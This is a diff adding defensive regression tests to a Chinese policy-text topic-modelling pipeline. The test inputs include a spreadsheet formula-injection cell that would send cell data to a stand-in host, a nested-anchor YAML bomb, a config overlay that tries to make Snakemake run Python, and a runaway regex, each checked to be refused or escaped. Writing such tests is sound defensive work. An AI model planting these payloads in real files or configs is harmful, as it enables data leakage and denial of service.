@@ -1,0 +1,188 @@
+"""Issue 23: odd inputs that ended in a traceback, a silent wrong result or a hang, each reproduced.
+
+Items 1–3 and 13–17 (same-stem files, long CSV cells, binary metadata, dates, JSON lines, object
+texts, ragged metadata) are in ``test_ingest.py``; the rest are here, as unit tests where the
+fault lay in one function and through Snakemake where it lay in the workflow.
+"""
+
+import errno
+import time
+
+import numpy as np
+import pandas as pd
+import pytest
+import yaml
+from project import SEEDS, copy_project, snakemake
+
+from govtopics.cases import unique_labels
+from govtopics.clean import CleanRules, UserPattern, chinese_chars, clean_document
+from govtopics.config import ConfigError, check_paths, validate_config
+from govtopics.ingest import read_corpus
+from govtopics.io import (
+    InputError,
+    describe_failure,
+    read_matrix,
+    read_table,
+    read_word_list,
+    write_matrix,
+    write_table,
+)
+from govtopics.workbook import write_workbook
+
+SCHEMA = "workflow/schemas/config.schema.yaml"
+TEXT = "党建引领基层治理，成都市推进微网实格治理。"
+
+
+# 4. Word lists read like corpus files
+
+
+def test_word_lists_in_gbk_or_binary(tmp_path):
+    (tmp_path / "ansi.txt").write_bytes("网格化\n# 注释\r\n微网实格 5 n\n".encode("gbk"))
+    assert read_word_list(tmp_path / "ansi.txt") == ["网格化", "微网实格 5 n"]
+    (tmp_path / "binary.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\x00")
+    with pytest.raises(InputError, match="binary.txt: cannot be read as a word list"):
+        read_word_list(tmp_path / "binary.txt")
+
+
+# 5, 19. A folder where a file is wanted; the operating system's folders
+
+
+def test_a_folder_for_a_word_list_and_a_system_folder_for_the_corpus(tmp_path):
+    config = validate_config({"tokens": {"stopwords": ["config"]}}, SCHEMA)
+    with pytest.raises(ConfigError, match=r"'tokens.stopwords\[0\]' names config, which is a folder"):
+        check_paths(config)
+    config = validate_config({"corpus": {"path": "/proc", "metadata": ""}}, SCHEMA)
+    with pytest.raises(ConfigError, match="a folder of the operating system"):
+        check_paths(config)
+
+
+def test_an_empty_pseudo_file_is_not_read(tmp_path):
+    """Files of /proc report size 0 and some never end (/proc/kmsg): a file of size 0 is skipped
+    as empty without being read."""
+    (tmp_path / "a.txt").write_text(TEXT, encoding="utf-8")
+    (tmp_path / "zero.txt").write_bytes(b"")
+    _, log = read_corpus(tmp_path)
+    assert {r["doc_id"]: r["reason"] for r in log}["zero"] == "empty file"
+
+
+# 6. Labels made unique stay unique
+
+
+def test_labels_made_unique_never_collide_with_a_given_one():
+    rows = [{"label": "甲"}, {"label": "甲"}, {"label": "甲-1"}]
+    assert [r["label"] for r in unique_labels(rows)] == ["甲-2", "甲-3", "甲-1"]
+
+
+# 7, 8, 14, 18. Config values
+
+
+@pytest.mark.parametrize(
+    ("config", "message"),
+    [
+        ({"lda": {"seeds": [1.0, 2.0]}}, "'lda.seeds.0' is 1.0; write the whole number without a decimal point: 1"),
+        ({"compare": {"nearest": 3.0}}, "'compare.nearest' is 3.0; write the whole number"),
+        ({"lda": {"k_grid": [2.0, 3.0]}}, "'lda.k_grid.0' is 2.0; write the whole number"),
+        ({"run": "seeds\n"}, "'run' is 'seeds\\n'"),
+    ],
+)
+def test_whole_numbers_and_run_names(config, message):
+    with pytest.raises(ConfigError) as error:
+        validate_config(config, SCHEMA)
+    assert message in str(error.value) and "\n" not in str(error.value)
+
+
+def test_nested_anchors_stop_with_one_short_line(tmp_path):
+    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"] + [
+        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)
+    ]
+    overlay = tmp_path / "bomb.yaml"
+    overlay.write_text("tokens:\n  stopwords: *i\n" + "\n".join(levels) + "\n", encoding="utf-8")
+    text = overlay.read_text(encoding="utf-8")
+    overlay.write_text("\n".join(levels) + "\ntokens:\n  stopwords: *i\n", encoding="utf-8")
+    config = yaml.safe_load(overlay.read_text(encoding="utf-8"))
+    assert text
+    start = time.perf_counter()
+    with pytest.raises(ConfigError) as error:
+        validate_config(config, SCHEMA, ["config/config.yaml", str(overlay)])
+    assert time.perf_counter() - start < 5 and len(str(error.value)) < 400
+
+
+def test_an_overlay_that_runs_python_is_refused(tmp_path):
+    overlay = tmp_path / "yte.yaml"
+    overlay.write_text("__use_yte__: true\nrun: ?str(1+1)\n", encoding="utf-8")
+    with pytest.raises(ConfigError, match="'__use_yte__' asks Snakemake to run the Python"):
+        validate_config({"run": "x"}, SCHEMA, ["config/config.yaml", str(overlay)])
+
+
+# 9. A full disk
+
+
+def test_a_full_disk_is_said_with_the_file():
+    said = describe_failure(OSError(errno.ENOSPC, "No space left on device", "results/seeds/tokens/x.csv"))
+    assert said.startswith("the disk is full at results/seeds/tokens/x.csv: free some space")
+    assert describe_failure(ValueError("a bug")) == ""
+
+
+# 10. One file too large for any shard
+
+
+def test_a_file_larger_than_a_shard_is_skipped_before_it_is_read(tmp_path):
+    (tmp_path / "a.txt").write_text(TEXT, encoding="utf-8")
+    (tmp_path / "huge.txt").write_bytes(("社区治理。" * 100_000).encode("utf-8"))  # 1.5 MB
+    documents, log = read_corpus(tmp_path, max_chars=100_000)
+    assert [d["doc_id"] for d in documents] == ["a"]
+    reason = {r["doc_id"]: r["reason"] for r in log}["huge"]
+    assert "more than one job holds (corpus.shard_chars = 100,000 characters)" in reason
+    long = "社区治理。" * 24_000  # 120,000 characters in 360 kB: read, then refused by its length
+    (tmp_path / "huge.txt").write_text(long, encoding="utf-8")
+    _, log = read_corpus(tmp_path, max_chars=100_000)
+    assert "120,000 characters" in {r["doc_id"]: r["reason"] for r in log}["huge"]
+    assert chinese_chars(long) == 96_000
+
+
+# 12. Formulas in cells
+
+
+def test_cells_that_start_like_formulas_are_text_in_csv_and_workbook(tmp_path):
+    titles = ['=HYPERLINK("http://example.invalid/?x="&A1,"点此")', "-基层", "@区", "+号", "正常", "-0.5"]
+    write_table(pd.DataFrame({"title": titles, "value": [-0.5, 1, 2, 3, 4, 5]}), tmp_path / "t.csv")
+    raw = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
+    assert "\n\"'=HYPERLINK" in raw and "\n'-基层," in raw and "\n-0.5,5" in raw and ",-0.500000" in raw
+    assert list(read_table(tmp_path / "t.csv")["title"]) == titles, "read back as written"
+    write_matrix(np.eye(2), ["=甲", "乙"], tmp_path / "m.csv")
+    assert read_matrix(tmp_path / "m.csv")[1] == ["=甲", "乙"]
+    write_workbook([("t", tmp_path / "t.csv", "", None)], tmp_path / "t.xlsx")
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(tmp_path / "t.xlsx")["t"]
+    assert sheet["A2"].value.startswith("=HYPERLINK") and sheet["A2"].data_type == "s"
+
+
+# 20. A pattern that never finishes
+
+
+def test_a_runaway_pattern_stops_with_its_name():
+    rules = CleanRules(line_patterns={"mine": [r"(a|aa)+$"]})
+    UserPattern.SECONDS = 0.2
+    try:
+        with pytest.raises(InputError, match=r"'clean.line_patterns.mine' in the config has '\(a\|aa\)\+\$'"):
+            clean_document("a" * 60 + "!\n\n" + TEXT, rules)
+    finally:
+        UserPattern.SECONDS = 2.0
+
+
+# 11. A file named like a wildcard
+
+
+def test_a_file_named_like_a_wildcard_plans(tmp_path):
+    workdir = copy_project(tmp_path / "p")
+    (workdir / "corpus").mkdir()
+    for path in sorted(SEEDS.glob("*.txt"))[:2]:
+        (workdir / "corpus" / path.name).write_bytes(path.read_bytes())
+    (workdir / "corpus" / "{doc_id}.txt").write_bytes((SEEDS / "2024_chengdu_sichuan-dangjian.txt").read_bytes())
+    (workdir / "overlay.yaml").write_text("corpus:\n  path: corpus\n  metadata: ''\n", encoding="utf-8")
+    result = snakemake(workdir, "-n", "--configfile", "overlay.yaml")
+    assert result.returncode == 0, result.stdout[-2000:]
+    assert "WildcardError" not in result.stderr + result.stdout
+    _, log = read_corpus(workdir / "corpus")
+    assert "rename it without them" in {r["doc_id"]: r["reason"] for r in log}["{doc_id}"]
